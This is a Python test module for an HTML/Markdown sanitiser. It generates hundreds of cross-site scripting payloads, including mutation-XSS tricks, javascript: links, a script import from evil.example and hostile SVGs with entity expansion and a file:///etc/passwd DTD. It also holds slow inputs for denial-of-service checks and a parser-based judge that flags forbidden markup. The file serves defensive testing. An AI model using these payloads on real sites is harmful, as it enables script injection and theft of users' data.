"""Texts that mean harm, and a judge that reads HTML the way a browser does and says what is wrong with it."""

import re
from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib

from kernel.markup.model import names
from kernel.markup.render import MAXIMUM, MAXIMUM_BLOCK

SVG = "{http://www.w3.org/2000/svg}"
MATHML = "{http://www.w3.org/1998/Math/MathML}"
HTML = "{http://www.w3.org/1999/xhtml}"

_PAYLOADS = ("alert(1)", "alert`1`", "import('//evil.example/x.js')")
_TAGS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>{}",
    "<script/x>{}</script >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '<img src="javascript:{}">',
    "<img/src='x'/onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x></animate></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={}>'>",
    "<math><a xlink:href='javascript:{}'>x</a></math>",
    "<a href='javascript:{}'>x</a>",
    "<a href='JaVaScRiPt:{}'>x</a>",
    "<a href=' javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<a href='javascript&colon;{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href='vbscript:{}'>x</a>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='data:text/html,{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button formaction='javascript:{}'>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<body onload={}>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='data:,*{{background:url(javascript:{})}}'>",
    "<style>@import 'javascript:{}';</style>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<marquee onstart={}>x</marquee>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<textarea><img src=x onerror={}></textarea>",
    "<title><img src=x onerror={}></title>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<select><style></select><img src=x onerror={}></style>",
    "<p id='content' name='attributes' class='qbar main'>clobber {}</p>",
    "<button popovertarget='s-x' onclick={}>x</button>",
    "</div></article></main><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?php {} ?>",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<!-- --!><img src=x onerror={}> -->",
    "<a\x00 href='java\x00script:{}'>x</a>",
    "<b onmouseover={}>x</b>",
    "<abbr title='\"><script>{}</script>'>x</abbr>",
)
_MARKDOWN = (
    "[x](javascript:{})",
    "[x](JAVASCRIPT:{})",
    "[x](<javascript:{}>)",
    "[x](&#106;avascript:{})",
    "[x](javascript&colon;{})",
    "[x](java\nscript:{})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:{})",
    "[x](//evil.example/{})",
    "[x](\\\\evil.example/{})",
    '[x](https:\\\\evil.example"onclick={})',
    '[x](https://evil.example/"onmouseover="{})',
    "[x](https://evil.example '\" onclick={}')",
    "[x]: javascript:{}\n\n[x]",
    "[x][y]\n\n[y]: <javascript:{}>",
    "![x](javascript:{})",
    "![x](https://evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload={}>)",
    '![x" onerror="{}](media/x.png)',
    "![{}](question:x)",
    "<javascript:{}>",
    "<javascript://%0a{}>",
    "<data://x,{}>",
    "**x**{{onclick={}}}",
    "# x {{onclick={} style=color:red class=main}}",
    "texto\n{{: onload={} }}",
    "[[<script>{}</script>]]",
    "[[x|<img src=x onerror={}>]]",
    "{{{{ <script>{}</script> }}}}",
    "[@<script>{}</script>]",
    "$\\href{{javascript:{}}}{{x}}$",
    "$\\text{{<script>{}</script>}}$",
    "$</math><script>{}</script>$",
    "$$\n\\style{{background:url(javascript:{})}}{{x}}\n$$",
    "```html\n<script>{}</script>\n```",
    "```{{.js onclick={}}}\nx\n```",
    "`<script>{}</script>`",
    "> [!DEFINITION] <script>{}</script>\n> x",
    "> [!<script>{}</script>] x\n> y",
    "> [!CHECK] <details ontoggle={}>\n> </details></section>",
    "[^<script>{}</script>]\n\n[^<script>{}</script>]: <img src=x onerror={}>",
    "| <script>{}</script> | b |\n|---|---|\n| <img src=x onerror={}> | b |\n\n: <svg onload={}>",
    '## <script>{}</script> {{#x"onclick={}}}',
    "<b>**</b>*<i onclick={}>**</i>",
    "\x02wzxhzdk:0\x03<b onclick={}>\x02klzzwxh:0000\x03",
    "zq0000000000000000q0z <b onclick={}>",
)


def hostile_html() -> tuple[str, ...]:
    """Answer HTML that tries to run something."""
    return tuple(tag.replace("{}", payload).replace("{{", "{").replace("}}", "}") for tag in _TAGS for payload in _PAYLOADS)


def hostile_markdown() -> tuple[str, ...]:
    """Answer Markdown that tries to run something, the HTML inside its various places included."""
    texts = [text.replace("{}", payload).replace("{{", "{").replace("}}", "}") for text in _MARKDOWN for payload in _PAYLOADS]
    for piece in hostile_html()[:: len(_PAYLOADS)]:
        texts += [
            piece,
            f"texto {piece} más",
            f"> [!WARNING] {piece}\n> {piece}",
            f"- {piece}\n- {piece}",
            f"| a | b |\n|---|---|\n| {piece} | x |",
        ]
    return tuple(texts)


HOSTILE_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>x</title></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><use href="#x"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><style>*{fill:url(//evil.example)}</style></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:red" width="1" height="1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect fill="red" width="1" height="1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><rect class="btn main" width="1" height="1"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0" marker-end="url(https://evil.example#a)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><animate attributeName="x"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onload" to="alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><svg/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg"><text font-family="x">x</text></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg">text &lt;b&gt; outside</svg>',
    '<svg xmlns="http://evil.example/ns"><title>x</title></svg>',
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    '<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<?xml-stylesheet href="javascript:alert(1)"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<?xml version="1.0" encoding="utf-16"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "<html><body onload=alert(1)></body></html>",
    "not xml at all",
    "",
    "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 100 + "</g>" * 100 + "</svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g/>" * 6000 + "</svg>",
)

_FORBIDDEN = names(
    "script style iframe object embed form input textarea select link meta base frame frameset video audio source track template noscript "
    "title xmp plaintext marquee applet portal canvas"
)
_OURS = names(
    "callout eg warn scroll mono small muted nowrap vh data r center term pop h4 i chev panel meta up-s "
    "chart fit b0 b1 b2 b3 axis grid-l line area goal dot strong onbar"
)
_HREF = re.compile(r"(?:https?://|mailto:|#|/(?!/))[^\x00-\x20]*")


def harm(html: str, id_prefix: str = "s-") -> list[str]:
    """Answer what is wrong with HTML from the renderer, read by a parser that has nothing to do with the sanitiser."""
    tree = html5lib.parseFragment(html, treebuilder="etree")
    return [fault for node in tree.iter() for fault in _faults(node, id_prefix)]


def _faults(node: Element, id_prefix: str) -> Iterator[str]:
    if not isinstance(node.tag, str):
        yield f"a comment: {node.text}"
        return
    tag = node.tag.rpartition("}")[2].lower()
    if tag in _FORBIDDEN and not (node.tag.startswith(SVG) and tag == "title"):
        yield f"<{tag}>"
    for name, value in node.attrib.items():
        yield from _attribute_faults(tag, str(name).rpartition("}")[2].lower(), value or "", id_prefix)


def _attribute_faults(tag: str, name: str, value: str, id_prefix: str) -> Iterator[str]:
    if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action", "srcset", "background", "ping", "name", "target"):
        yield f"{name}={value} in <{tag}>"
    if name == "href" and tag == "use" and not re.fullmatch(r"#[a-z-]+", value):
        yield f"<use> of {value}"
    if name == "href" and tag == "a" and not _HREF.fullmatch(value):
        yield f"a link to {value}"
    if name == "src" and not value.startswith(("/", "https://files.example/")):
        yield f"an image from {value}"
    if name == "id" and not value.startswith(id_prefix):
        yield f"the id {value}"
    if name == "class" and not set(value.split()) <= _OURS:
        yield f"the class {value}"


def slow_texts() -> Iterator[str]:
    """Yield texts as long as they may be whose reading takes longest."""
    for piece in (
        "[",
        "![",
        "[@",
        "[[",
        "[[a",
        "*",
        "**a ",
        "*a **b ",
        "_a ",
        "*_",
        "`",
        "``a`",
        "$",
        "$a ",
        "a$b",
        "<",
        "<a ",
        '<a b="',
        "<!--",
    ):
        yield piece * ((MAXIMUM_BLOCK - 10) // len(piece))
    for piece in (
        "{{a",
        "[a](",
        "[a][b",
        "[^a]",
        "&",
        "<![CDATA[",
        "a {: ",
        "\\",
        ">",
        "|",
        "- ",
        "$x_1$ ",
        "<b>",
        "[a](https://x.y) ",
        "<https://a",
    ):
        yield piece * ((MAXIMUM_BLOCK - 10) // len(piece))
    for block in (
        "## a",
        "> a",
        "- a",
        "> [!CHECK]",
        "![a](b.svg)",
        "a\n---",
        "```\na\n```",
        "| a | b |\n|---|---|\n| c | d |",
        ": a",
        "[^1]: a",
    ):
        yield f"{block}\n\n" * ((MAXIMUM - 10) // (len(block) + 2))
    yield "".join(f"{' ' * 4 * min(depth, 11)}- a\n" for depth in range(900))
    yield "|a|b|\n|-|-|\n|" + "`|" * 9000
